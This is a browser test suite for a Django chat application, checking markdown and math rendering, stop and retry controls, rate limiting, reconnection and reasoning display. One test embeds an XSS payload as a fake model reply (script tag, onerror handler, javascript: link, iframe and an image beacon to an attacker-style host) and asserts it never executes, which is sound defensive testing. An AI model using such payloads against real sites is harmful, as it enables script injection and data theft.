from __future__ import annotations

import time

import pytest

from apps.chat.models import Conversation, Message
from apps.core.models import RuntimeConfig
from apps.core.services import runtime_config_save

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

RICH_REPLY = (
    "Here is a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    "```python\nprint('hi')\n```\n\nAnd Euler: $e^{i\\pi}+1=0$ and $$\\int_0^1 x\\,dx$$\n\n"
    "- inline \\(a^2+b^2\\)\n- display \\[c^2\\]\n\nSee [the docs](https://example.org/docs)."
)


def _open_new_conversation(page, asgi_server):
    page.click("text=+ New conversation")
    page.wait_for_selector("#composer textarea:not([disabled])")
    page.wait_for_selector(".chat[data-live='on']", state="attached")


def test_a_user_chats_sees_rich_rendering_and_finds_history_after_reload(
    page, asgi_server, log_in, user, llm_stub
):
    llm_stub.script({"content": RICH_REPLY, "tps": 200, "match": "show me"})
    log_in("alice")
    _open_new_conversation(page, asgi_server)
    page.fill("#composer textarea", "show me things")
    page.keyboard.press("Enter")
    page.wait_for_selector(".msg-assistant.complete")
    answer = page.locator(".msg-assistant.complete")
    assert answer.locator("table").count() == 1
    assert answer.locator("pre code.hljs").count() == 1
    assert answer.locator("button.copy-btn").count() == 1
    # $…$, $$…$$, \(…\) and \[…\]; the display ones render in display mode.
    assert answer.locator(".katex").count() == 4
    assert answer.locator(".katex-display").count() == 2
    assert answer.locator("ul > li").count() == 2
    link = answer.locator("a", has_text="the docs")
    assert link.get_attribute("href") == "https://example.org/docs"
    assert link.get_attribute("target") == "_blank" and "noopener" in link.get_attribute("rel")
    assert page.locator(".msg-user .msg-body").inner_text() == "show me things"
    page.wait_for_selector("#composer textarea:not([disabled])")

    page.reload()
    page.wait_for_selector(".msg-assistant.complete .katex")
    assert page.locator(".msg-user .msg-body").inner_text() == "show me things"
    reply = Message.objects.get(role="assistant")
    assert reply.status == "complete" and reply.content == RICH_REPLY


def test_a_user_stops_a_long_answer_and_keeps_the_partial(
    page, asgi_server, log_in, user, llm_stub
):
    llm_stub.script({"content": "word " * 400, "tps": 40})
    log_in("alice")
    _open_new_conversation(page, asgi_server)
    page.fill("#composer textarea", "tell me a long story")
    page.click("#composer button[type=submit]")
    page.wait_for_selector("#stop-form button")
    assert page.locator("#composer textarea").is_disabled()
    page.locator(".msg-assistant .md-out", has_text="word word").wait_for()
    page.click("#stop-form button")
    page.wait_for_selector(".msg-assistant.cancelled")
    page.wait_for_selector("#composer textarea:not([disabled])")
    reply = Message.objects.get(role="assistant")
    assert reply.status == "cancelled"
    assert 0 < reply.content.count("word") < 400


def test_a_failed_answer_shows_one_sentence_and_retry_works(
    page, asgi_server, log_in, user, llm_stub
):
    llm_stub.script({"fault": "http_500"}, {"content": "Back again."})
    log_in("alice")
    _open_new_conversation(page, asgi_server)
    page.fill("#composer textarea", "hello?")
    page.keyboard.press("Enter")
    page.wait_for_selector(".msg-assistant.failed .msg-error")
    assert "returned an error (HTTP 500)" in page.locator(".msg-error").inner_text()
    page.click(".msg-assistant.failed button:has-text('Retry')")
    page.wait_for_selector(".msg-assistant.complete")
    assert "Back again." in page.locator(".msg-assistant .md-out").inner_text()
    assert Message.objects.filter(role="user").count() == 1


def test_a_user_sending_too_fast_is_told_when_to_try_again(
    page, asgi_server, log_in, user, llm_stub
):
    runtime_config_save(config=RuntimeConfig(turns_per_minute=1))
    llm_stub.script({"content": "First answer."})
    log_in("alice")
    _open_new_conversation(page, asgi_server)
    box = page.locator("#composer textarea")
    assert box.get_attribute("maxlength") == "32000"
    page.fill("#composer textarea", "first")
    page.keyboard.press("Enter")
    page.wait_for_selector(".msg-assistant.complete")
    page.wait_for_selector("#composer textarea:not([disabled])")
    assert box.get_attribute("maxlength") == "32000", "the pushed composer lost the limit"
    # A send that went through clears the notice's place: no empty box with a lone ×.
    assert page.locator("#chat-notice").bounding_box()["height"] == 0
    assert page.locator("#chat-notice [data-close-notice]").count() == 0
    page.fill("#composer textarea", "second")
    page.keyboard.press("Enter")
    notice = page.locator("#chat-notice", has_text="You are sending messages too fast")
    notice.wait_for()
    assert "at most 1 per minute. Try again in " in notice.inner_text()
    assert list(Message.objects.filter(role="user").values_list("content", flat=True)) == ["first"]


def test_an_xss_payload_in_a_reply_never_executes(page, asgi_server, log_in, user, llm_stub):
    payload = (
        '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
        '[click](javascript:window.__pwned=3) <iframe src="https://evil.example/"></iframe>'
        '<div hx-get="/c/new" hx-trigger="load">h</div> ![](https://attacker.example/?q=s)'
    )
    llm_stub.script({"content": payload})
    hosts = set()
    page.on("request", lambda request: hosts.add(request.url.split("/")[2]))
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    log_in("alice")
    _open_new_conversation(page, asgi_server)
    page.fill("#composer textarea", "attack")
    page.keyboard.press("Enter")
    page.wait_for_selector(".msg-assistant.complete")
    page.wait_for_timeout(300)
    out = page.locator(".msg-assistant .md-out")
    assert page.evaluate("window.__pwned") is None
    assert out.locator("script, iframe, img, [hx-get], [onerror]").count() == 0
    assert out.locator("a[href^='javascript']").count() == 0
    assert dialogs == []
    assert hosts == {asgi_server.split("/")[2]}
    assert Conversation.objects.count() == 1


def test_a_dropped_connection_is_shown_and_the_page_catches_up_when_it_is_back(
    page, asgi_server, log_in, user, llm_stub
):
    # The page's socket goes through a proxy the test controls; the server side stays real.
    sockets = []
    reconnect = {"allowed": True}

    def route(ws):
        if not reconnect["allowed"]:
            ws.close(code=1013)  # "try again later": the page keeps retrying
            return
        sockets.append((ws, ws.connect_to_server()))

    page.route_web_socket("**/ws/c/**", route)
    llm_stub.script({"content": "word " * 60, "tps": 30})
    log_in("alice")
    _open_new_conversation(page, asgi_server)
    page.fill("#composer textarea", "tell me a story")
    page.keyboard.press("Enter")
    page.locator(".msg-assistant .md-out", has_text="word word").wait_for()

    reconnect["allowed"] = False
    page_side, server_side = sockets[-1]
    server_side.close()
    page_side.close(code=1012)
    notice = page.locator("#chat-offline", has_text="Connection lost. Reconnecting")
    notice.wait_for()
    assert page.locator(".chat").get_attribute("data-live") == "off"
    # The answer goes on without the page and is saved.
    reply = Message.objects.get(role="assistant")
    # Two seconds of streaming; a loaded machine may take many times that.
    deadline = time.monotonic() + 30
    while reply.status != "complete" and time.monotonic() < deadline:
        page.wait_for_timeout(100)
        reply.refresh_from_db()
    assert reply.status == "complete"
    assert page.locator(".msg-assistant.complete").count() == 0, "nothing arrived while down"

    reconnect["allowed"] = True
    page.wait_for_selector(".chat[data-live='on']", state="attached", timeout=20_000)
    page.wait_for_selector(".msg-assistant.complete")
    assert page.locator(".msg-assistant .md-out").inner_text().count("word") == 60
    assert notice.is_hidden()
    page.wait_for_selector("#composer textarea:not([disabled])")
    assert page.locator("#stop-form button").count() == 0, "a Stop for a finished answer"
    assert page.locator(f"#msg-{reply.pk}").count() == 1


def test_an_answer_stopped_at_its_cap_is_continued_in_the_same_bubble(
    page, asgi_server, log_in, user, llm_stub
):
    llm_stub.script(
        {"content": "Rome was not built in a day: it took", "finish_reason": "length"},
        {"content": "centuries of *patient* work."},
    )
    log_in("alice")
    _open_new_conversation(page, asgi_server)
    page.fill("#composer textarea", "how long did Rome take?")
    page.keyboard.press("Enter")
    note = page.locator(".msg-assistant.complete .msg-note", has_text="Stopped at 9 tokens.")
    note.wait_for()
    reply = Message.objects.get(role="assistant")
    bubble = page.locator(f"#msg-{reply.pk}")
    assert bubble.locator("button", has_text="Retry").count() == 0
    page.wait_for_selector("#composer textarea:not([disabled])")

    bubble.locator("button", has_text="Continue").click()
    page.locator(f"#msg-{reply.pk}.complete .md-out em", has_text="patient").wait_for()
    assert (
        bubble.locator(".md-out")
        .inner_text()
        .startswith("Rome was not built in a day: it took centuries")
    )
    assert page.locator(".msg-assistant").count() == 1
    assert bubble.locator(".msg-note").count() == 0
    assert bubble.locator("button", has_text="Continue").count() == 0
    reply.refresh_from_db()
    assert reply.content == "Rome was not built in a day: it took centuries of *patient* work."


def test_a_reasoning_models_thinking_is_folded_while_it_streams_and_after(
    page, asgi_server, log_in, user, llm_stub
):
    # Four seconds of thinking: the fold is opened and read while it streams, a few browser
    # round trips that a loaded machine makes slow.
    thought = "The user wants a count. " * 24
    llm_stub.script({"reasoning": thought, "content": "one two three", "tps": 30})
    log_in("alice")
    _open_new_conversation(page, asgi_server)
    page.fill("#composer textarea", "count for me")
    page.keyboard.press("Enter")
    folded = page.locator(".msg-assistant details.reasoning summary", has_text="Thinking…")
    folded.wait_for()
    # Closed until clicked; opened, it stays open while the thinking grows.
    assert not page.locator(".msg-assistant details.reasoning").evaluate("d => d.open")
    folded.click()
    page.locator(".msg-assistant .reasoning-body", has_text="wants a count").wait_for()
    assert page.locator(".msg-assistant details.reasoning").evaluate("d => d.open")
    page.wait_for_selector(".msg-assistant.complete")
    answer = page.locator(".msg-assistant.complete")
    assert answer.locator("details.reasoning summary").inner_text() == "Thought"
    assert answer.locator(".md-out").inner_text().strip() == "one two three"
    assert "count" not in answer.locator(".md-out").inner_text()
